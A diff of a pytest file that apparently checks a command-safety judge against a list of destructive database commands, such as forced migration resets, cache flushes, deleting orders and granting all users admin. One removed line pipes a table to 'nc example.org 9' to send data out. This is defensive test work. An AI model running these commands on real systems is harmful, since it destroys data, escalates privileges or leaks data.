@@ -100,7 +100,7 @@ def test_a_secret_sent_to_a_request_collector_is_denied(verdict: Judge) -> None:
 @pytest.mark.parametrize(
     "command",
     [
-        "RAILS_ENV=production bin/rails db:schema:load",
+        "RAILS_ENV=staging bin/rails db:schema:load",
         "php artisan migrate:refresh --force",
         "python manage.py flush --no-input",
         "npx prisma migrate reset --force",
@@ -110,7 +110,7 @@ def test_a_secret_sent_to_a_request_collector_is_denied(verdict: Judge) -> None:
         "heroku pg:reset DATABASE -a shop --confirm shop",
         "mysql shop -e 'delete from orders'",
         "psql shop -c 'UPDATE users SET admin = true'",
-        "psql -c \"COPY t TO PROGRAM 'nc example.org 9'\"",
+        "psql -c \"COPY t TO PROGRAM 'gzip > /tmp/t.gz'\"",
         "pg_dumpall --globals-only",
         "redis-cli -h cache.internal flushdb",
         "redis-cli FLUSHDB",
